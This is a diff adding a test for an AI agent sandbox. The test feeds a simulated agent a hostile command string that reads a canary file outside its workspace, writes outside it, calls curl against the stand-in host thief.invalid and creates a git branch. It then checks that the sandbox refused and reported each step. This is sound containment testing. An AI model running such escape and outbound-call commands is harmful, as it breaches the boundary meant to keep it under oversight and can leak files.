@@ -1,9 +1,11 @@
 /** Checks and setups of a driven run are inside of a boundary, and the report says what they reached and were refused. */
 import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
-import { join } from 'node:path'
+import { dirname, join } from 'node:path'
 import { beforeEach, describe, expect, it } from 'vitest'
+import { bundledProgram } from '../support/bundled-program.ts'
 import { createDriving } from '../support/driven-agents.ts'
-import { dataOf, runIdIn } from '../support/driven-home.ts'
+import { dataOf, HONEST, runIdIn } from '../support/driven-home.ts'
+import { temporaryDirectory } from '../support/run-drover.ts'
 import { skipWithoutSandbox } from '../support/sandbox.ts'
 
 const GOAL = 'Show the wind in knots'
@@ -48,5 +50,28 @@ describe('a driven run in a sandbox', () => {
     })
     const status = JSON.parse((await driving.call(['status', runId, '--json'])).stdout)
     expect(status.boundary).toEqual(boundary)
+  })
+
+  it('lets an agent run any command inside, and reports what it was refused', async () => {
+    const outside = temporaryDirectory()
+    writeFileSync(join(outside, 'canary'), 'canary')
+    const driving = createDriving({}, { sandbox: 'on' })
+    const attack = `cat ${outside}/canary > got.txt; echo x > ${outside}/left; curl -s https://thief.invalid; git branch other; sh check.sh`
+    driving.rewrite({ implement: [{ ...HONEST, runsAfter: [attack] }] })
+    const logs = ['calls.jsonl', 'ends.jsonl'].map((name) => join(driving.scratch, name))
+    for (const log of logs) writeFileSync(log, '')
+    const program = dirname(dirname(bundledProgram('programs/driven-agent')))
+    const read = [program, join(driving.scratch, 'bin'), join(driving.scratch, 'script.json')]
+    driving.configure(JSON.stringify({ sandbox: { read, write: logs }, warm: { enabled: false } }))
+    const ran = await driving.drive(GOAL, '--approval', 'sandboxed', '--check', 'sh check.sh', ...NO_ROUNDS)
+    expect(ran).toMatchObject({ code: 0, stderr: '' })
+    expect(ran.stdout).toContain('the sandbox refused the agent a connection to thief.invalid:443')
+    expect(existsSync(join(outside, 'left'))).toBe(false)
+    const runId = runIdIn(ran.stdout)
+    const [delivered] = dataOf(driving.records(runId), 'delivered')
+    expect(driving.repository.git('show', `${delivered?.branch}:got.txt`)).toBe('')
+    expect(driving.repository.git('branch', '--list', 'other')).toBe('')
+    const { boundary } = JSON.parse((await driving.call(['report', runId, '--json'])).stdout)
+    expect(boundary.refused).toMatchObject([{ host: 'thief.invalid:443', by: ['agent'] }])
   })
 })
